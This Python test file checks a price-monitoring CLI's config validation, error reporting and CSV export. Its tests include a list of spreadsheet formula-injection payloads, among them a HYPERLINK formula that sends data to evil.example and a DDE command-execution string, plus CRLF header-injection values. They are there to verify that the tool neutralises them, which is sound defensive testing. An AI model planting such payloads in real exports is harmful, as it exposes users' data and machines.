"""Bad configuration and bad files: every one is a clear `pricemon: error` naming where, never a
traceback; `config check` finds what can be found without running; CSV outputs cannot be turned
into formulas; a feed file that cannot be written loses no price change."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.scrape.conftest import Reply, Shop, jsonld_page


@pytest.fixture
def shop() -> Iterator[Shop]:
    server = Shop()
    yield server
    server.close()


def competitor_config(shop_url: str, extra: str = "", *, head: str = "") -> str:
    return (
        f'{head}[[competitors]]\nname = "acme"\nbase_url = "{shop_url}/"\nmin_delay = "0s"\n'
        f"respect_robots_txt = false\n{extra}\n"
    )


# --- config check: what can be checked without running --------------------------------------


PLUGIN = '''
from decimal import Decimal
from monitor.pricing import Option, Suggestion


class Clearance:
    name = "clearance_dump"
    description = "sell it off"
    options = {"percent": Option(Decimal, Decimal("30"), "how much below cost")}

    def suggest(self, context, options):
        return None
'''


def test_config_check_validates_strategies_and_options_per_assignment(
    tmp_path: Path, write_config, pricemon_cli
) -> None:
    plugins = tmp_path / "plugins"
    plugins.mkdir()
    (plugins / "clearance.py").write_text(PLUGIN, encoding="utf-8")
    config = write_config(
        f'strategies_dir = "{plugins}"\n'
        "[pricing.default]\n"
        'strategies = ["undercut", "match_lowest"]\n'
        'options = { undercut = { percent = "two" } }\n'
        "[pricing.tags.clearance]\n"
        'strategies = ["clearance_dump", "undrcut"]\n'
        "options = { clearance_dump = { percent = 40, depth = 2 } }\n"
        "[pricing.skus.A-1]\n"
        "options = { position = { rank = 1 } }\n"
    )
    result = pricemon_cli(config)("config", "check", expect=1)
    err = result.stderr
    assert "Traceback" not in err
    # every problem, each by its key path; the plugin from strategies_dir is a known strategy
    assert "pricing.tags.clearance.strategies[1]: unknown strategy 'undrcut'" in err
    assert "clearance_dump" in err.split("known:")[1]  # listed among the known strategies
    assert "pricing.tags.clearance.strategies[0]" not in err
    assert "pricing.default.options.undercut.percent: expected a number, got 'two'" in err
    assert "pricing.tags.clearance.options.clearance_dump.depth: strategy 'clearance_dump' has no option 'depth'" in err
    assert "pricing.tags.clearance.options.clearance_dump.percent" not in err  # 40 is a valid Decimal
    # options for a strategy that is not in the chain: a warning, not an error
    assert "pricing.skus.A-1.options.position: strategy 'position' is not in this assignment's chain" in err
    assert "warning" in err.split("pricing.skus.A-1.options.position")[0].rsplit("\n", 1)[-1]


def test_config_check_reports_a_plugin_file_that_fails_to_import(tmp_path: Path, write_config, pricemon_cli) -> None:
    plugins = tmp_path / "plugins"
    plugins.mkdir()
    (plugins / "broken.py").write_text("raise RuntimeError('half-written plugin')\n", encoding="utf-8")
    config = write_config(f'strategies_dir = "{plugins}"\n')
    err = pricemon_cli(config)("config", "check", expect=1).stderr
    assert "strategies_dir: plugin file" in err
    assert "broken.py failed to import: RuntimeError: half-written plugin" in err


def test_config_check_accepts_a_valid_config_and_warns_about_unset_secret_variables(
    write_config, pricemon_cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("PM_UNSET_FEED_SECRET", raising=False)
    monkeypatch.delenv("PM_UNSET_SMTP", raising=False)
    config = write_config(
        competitor_config("http://127.0.0.1:9")
        + '[feed]\nwebhook_url = "http://127.0.0.1:9/hook"\nsecret_env = "PM_UNSET_FEED_SECRET"\n'
        '[[alerting.channels]]\nname = "mail"\ntype = "email"\nsmtp_host = "127.0.0.1"\nusername = "u"\n'
        'password_env = "PM_UNSET_SMTP"\nsender = "a@example.com"\nrecipients = ["b@example.com"]\n'
        '[pricing.tags.clearance]\nstrategies = ["undercut"]\noptions = { undercut = { percent = 3 } }\n'
        'exclude = ["globex"]\n'
    )
    result = pricemon_cli(config)("config", "check")
    assert "OK" in result.stdout
    assert "feed.secret_env: environment variable PM_UNSET_FEED_SECRET is not set" in result.stderr
    assert "alerting.channels[0].password_env: environment variable PM_UNSET_SMTP is not set" in result.stderr
    assert "pricing.tags.clearance.exclude[0]: unknown competitor 'globex' (known: acme)" in result.stderr
    data = pricemon_cli(config)("config", "check", "--json").json()
    assert any("PM_UNSET_SMTP" in w for w in data["warnings"])
    monkeypatch.setenv("PM_UNSET_FEED_SECRET", "set-now")
    monkeypatch.setenv("PM_UNSET_SMTP", "set-too")
    assert "is not set" not in pricemon_cli(config)("config", "check").stderr


def test_messages_about_a_competitor_name_it(write_config, pricemon_cli) -> None:
    config = write_config(
        '[[competitors]]\nname = "acme"\nbase_url = "http://127.0.0.1:9/"\n'
        '[[competitors]]\nname = "globex"\nbase_url = "http://127.0.0.1:9/"\nmax_concurrency = 0\n'
    )
    err = pricemon_cli(config)("config", "check", expect=1).stderr
    assert "competitors[1].max_concurrency: " in err
    assert "(competitor 'globex')" in err.split("competitors[1].max_concurrency")[1].splitlines()[0]


# --- start and fail clearly -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("setting", "key", "expected"),
    [
        ('every = "99999999999d"', "competitors[0].every", "a duration longer than 3650 days is not supported"),
        ("every = 1e400", "competitors[0].every", "a duration longer than 3650 days is not supported"),
        ('timeout = "0s"', "competitors[0].timeout", "must be longer than 0s"),
        ('headers = { "X-Api" = "one\\r\\nX-Injected: two" }', "competitors[0].headers", "line break"),
        ('headers = { "X Api" = "one" }', "competitors[0].headers", "not a valid HTTP header name"),
        ('user_agent = "bot\\nX: y"', "competitors[0].user_agent", "line break"),
        ('proxy = "http://"', "competitors[0].proxy", "expected an http:// or https:// or socks5://"),
        ('proxy = "http://user:pw@[::1"', "competitors[0].proxy", "expected a valid URL"),
    ],
)
def test_bad_values_are_rejected_by_every_command_with_the_key_path(
    write_config, pricemon_cli, setting: str, key: str, expected: str
) -> None:
    config = write_config(competitor_config("http://127.0.0.1:9", setting))
    for command in (("config", "check"), ("products",), ("scrape",)):
        err = pricemon_cli(config)(*command, expect=1).stderr
        assert "Traceback" not in err
        line = next(line for line in err.splitlines() if key in line)
        assert expected in line and "(competitor 'acme')" in line, err
        assert "pw@" not in err  # a bad proxy URL is shown without its password


@pytest.mark.parametrize(
    ("table", "setting", "key"),
    [
        ("scrape", 'timeout = "0s"', "scrape.timeout"),
        ("feed", "timeout = 0", "feed.timeout"),
        ("pricing", 'timeout = "0ms"', "pricing.timeout"),
        ("scheduler", 'grace_period = "99999999999w"', "scheduler.grace_period"),
        ("scheduler", "suggest_every = 1e400", "scheduler.suggest_every"),
        ("scrape", 'user_agent = "bot\\r\\nX-Injected: 1"', "scrape.user_agent"),
        ("feed", 'secret_header = "X Secret"', "feed.secret_header"),
        ("feed", 'webhook_url = "http://[::1"', "feed.webhook_url"),
    ],
)
def test_bad_values_in_any_table(write_config, pricemon_cli, table: str, setting: str, key: str) -> None:
    config = write_config(f"[{table}]\n{setting}\n")
    err = pricemon_cli(config)("config", "check", expect=1).stderr
    assert f"{key}: " in err and "Traceback" not in err


def test_a_listing_url_that_does_not_parse_is_a_row_error(tmp_path: Path, write_config, pricemon_cli) -> None:
    config = write_config(competitor_config("http://127.0.0.1:9", head=f'database_url = "sqlite:///{tmp_path}/p.db"\n'))
    run = pricemon_cli(config)
    products = tmp_path / "products.csv"
    products.write_text("sku,name,price,currency\nA-1,Kettle,10.00,EUR\n", encoding="utf-8")
    run("import", "products", str(products))
    listings = tmp_path / "listings.csv"
    listings.write_text("sku,competitor,url\nA-1,acme,http://127.0.0.1:9/ok\nA-1,acme,http://[::1\n", encoding="utf-8")
    err = run("import", "listings", str(listings), expect=1).stderr
    assert f"{listings}:3: url: expected a valid URL" in err
    assert run("listings", "--json").json() == []  # all-or-nothing
    err = run("extract", "http://[::1", expect=1).stderr
    assert err.startswith("pricemon: error: http://[::1: expected a valid URL")


def test_a_redirect_to_a_url_that_does_not_parse_is_a_failed_check(
    shop: Shop, tmp_path: Path, write_config, pricemon_cli
) -> None:
    shop.pages["/p/1"] = Reply(302, b"", {"Location": "http://[::1"})
    shop.pages["/p/2"] = jsonld_page("12.00")
    config = write_config(competitor_config(shop.base, head=f'database_url = "sqlite:///{tmp_path}/p.db"\n'))
    run = pricemon_cli(config)
    (tmp_path / "products.csv").write_text("sku,name,price,currency\nA-1,Kettle,10.00,EUR\nB-2,Pot,9.00,EUR\n")
    (tmp_path / "listings.csv").write_text(f"sku,competitor,url\nA-1,acme,{shop.base}/p/1\nB-2,acme,{shop.base}/p/2\n")
    run("import", "products", str(tmp_path / "products.csv"))
    run("import", "listings", str(tmp_path / "listings.csv"))
    run("scrape")
    listings = {row["sku"]: row for row in run("listings", "--json").json()}
    assert listings["A-1"]["last_outcome"] == "http_error"
    assert "redirect to an invalid URL" in listings["A-1"]["last_error"]
    assert listings["B-2"]["last_outcome"] == "changed"  # the rest of the sweep went on
    err = run("extract", f"{shop.base}/p/1", "--competitor", "acme", expect=1).stderr
    assert "redirect to an invalid URL" in err and "Traceback" not in err


def test_a_stored_listing_url_that_does_not_parse_is_a_failed_check(
    shop: Shop, tmp_path: Path, write_config, pricemon_cli
) -> None:
    """A URL stored before imports checked it (or written by another tool) costs its own check only."""
    import sqlite3

    shop.pages["/p/2"] = jsonld_page("12.00")
    db = tmp_path / "p.db"
    config = write_config(
        competitor_config(shop.base, head=f'database_url = "sqlite:///{db}"\n').replace(
            "respect_robots_txt = false", "respect_robots_txt = true"
        )
    )
    run = pricemon_cli(config)
    (tmp_path / "products.csv").write_text("sku,name,price,currency\nA-1,Kettle,10.00,EUR\nB-2,Pot,9.00,EUR\n")
    (tmp_path / "listings.csv").write_text(f"sku,competitor,url\nA-1,acme,{shop.base}/p/1\nB-2,acme,{shop.base}/p/2\n")
    run("import", "products", str(tmp_path / "products.csv"))
    run("import", "listings", str(tmp_path / "listings.csv"))
    with sqlite3.connect(db) as connection:
        connection.execute("UPDATE listings SET url = 'http://[::1' WHERE url LIKE '%/p/1'")
    run("scrape")
    listings = {row["sku"]: row for row in run("listings", "--json").json()}
    assert listings["A-1"]["last_outcome"] == "http_error"
    assert "not a valid URL" in listings["A-1"]["last_error"]
    assert listings["B-2"]["last_outcome"] == "changed"


def test_a_nul_byte_in_a_csv_is_rejected_as_file_and_line(
    tmp_path: Path, write_config, pricemon_cli, database_url: str
) -> None:
    # PostgreSQL cannot store a NUL in text: on it, this row used to fail the whole import with a traceback
    config = write_config(competitor_config("http://127.0.0.1:9"))
    run = pricemon_cli(config, database_url)
    run("db", "upgrade")
    products = tmp_path / "products.csv"
    products.write_bytes(b"sku,name,price,currency\nA-1,Kettle,10.00,EUR\nB-2,Dr\x00ill,12.00,EUR\n")
    err = run("import", "products", str(products), expect=1).stderr
    assert f"{products}:3: row: contains a NUL byte" in err
    assert run("products", "--json").json() == []


# --- the feed's CSV file --------------------------------------------------------------------


def _market(tmp_path: Path, write_config, pricemon_cli, shop: Shop, csv_path: Path):
    shop.pages["/p/1"] = jsonld_page("20.00")
    config = write_config(
        competitor_config(shop.base, head=f'database_url = "sqlite:///{tmp_path}/p.db"\n')
        + f'[feed]\ncsv_path = "{csv_path}"\n'
    )
    run = pricemon_cli(config)
    (tmp_path / "products.csv").write_text("sku,name,price,currency\nA-1,Kettle,30.00,EUR\n")
    (tmp_path / "listings.csv").write_text(f"sku,competitor,url\nA-1,acme,{shop.base}/p/1\n")
    run("import", "products", str(tmp_path / "products.csv"))
    run("import", "listings", str(tmp_path / "listings.csv"))
    run("scrape")
    run("suggest")
    run("approve", "--all")
    return run


@pytest.mark.parametrize("problem", ["missing folder", "a folder"])
def test_a_feed_file_that_cannot_be_written_keeps_the_price_change(
    shop: Shop, tmp_path: Path, write_config, pricemon_cli, problem: str
) -> None:
    if problem == "missing folder":
        target = tmp_path / "exports" / "feed.csv"
    else:
        target = tmp_path / "feed.csv"
        target.mkdir()
    run = _market(tmp_path, write_config, pricemon_cli, shop, target)
    assert "feed.csv_path: " in run("config", "check", expect=1).stderr

    applied = run("apply")
    assert "1 price(s) applied" in applied.stdout
    assert f"feed.csv_path: cannot write {target}" in applied.stderr and "Traceback" not in applied.stderr
    assert run("products", "--json").json()[0]["price"] == "19.99"  # the change is kept
    resend = run("feed", "send", expect=1)
    assert f"feed: feed.csv_path: cannot write {target}" in resend.stderr and "nothing to send" not in resend.stdout

    if problem == "a folder":
        target.rmdir()
    else:
        target.parent.mkdir()
    run("feed", "send")  # the next send writes the snapshot, with the applied price
    rows = list(csv.reader(io.StringIO(target.read_text())))
    assert rows[1][:3] == ["A-1", "19.99", "EUR"]


# --- CSV cells a spreadsheet would run ------------------------------------------------------


# (Imports strip surrounding whitespace, so a leading tab or CR is checked in tests/test_settings.py.)
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+2", "-2+3"]


def test_every_csv_pricemon_writes_neutralises_formulas(
    shop: Shop, tmp_path: Path, write_config, pricemon_cli
) -> None:
    shop.pages["/p/1"] = jsonld_page("20.00")
    feed_csv = tmp_path / "feed.csv"
    config = write_config(
        competitor_config(shop.base, head=f'database_url = "sqlite:///{tmp_path}/p.db"\n')
        + f'[feed]\ncsv_path = "{feed_csv}"\n'
    )
    run = pricemon_cli(config)
    products = io.StringIO()
    writer = csv.writer(products)
    writer.writerow(["sku", "name", "price", "currency"])
    for number, text in enumerate(HOSTILE):
        writer.writerow([f"@S{number}" if number % 2 else f"S{number}", text, "30.00", "EUR"])
    (tmp_path / "products.csv").write_text(products.getvalue())
    listings = "".join(f"{'@' if n % 2 else ''}S{n},acme,{shop.base}/p/1\n" for n in range(len(HOSTILE)))
    (tmp_path / "listings.csv").write_text("sku,competitor,url\n" + listings)
    run("import", "products", str(tmp_path / "products.csv"))
    run("import", "listings", str(tmp_path / "listings.csv"))
    run("scrape")
    run("suggest")
    run("report", "--format", "csv", "--out", str(tmp_path / "report.csv"))
    run("approve", "--all")
    run("apply")

    report = list(csv.DictReader(io.StringIO((tmp_path / "report.csv").read_text(), newline="")))
    names = sorted(row["name"] for row in report)
    assert names == sorted("'" + text for text in HOSTILE)
    assert all(not row["name"].startswith(("=", "+", "-", "@", "\t", "\r")) for row in report)
    assert {row["sku"] for row in report} >= {"'@S1", "S0"}
    # numbers are numbers: a negative change stays as it is
    assert all(not row["change_pct"].startswith("'") for row in report)
    assert any(row["change_pct"].startswith("-") for row in report)

    feed = list(csv.reader(io.StringIO(feed_csv.read_text(), newline="")))
    assert {row[0] for row in feed[1:]} == {f"'@S{n}" if n % 2 else f"S{n}" for n in range(len(HOSTILE))}
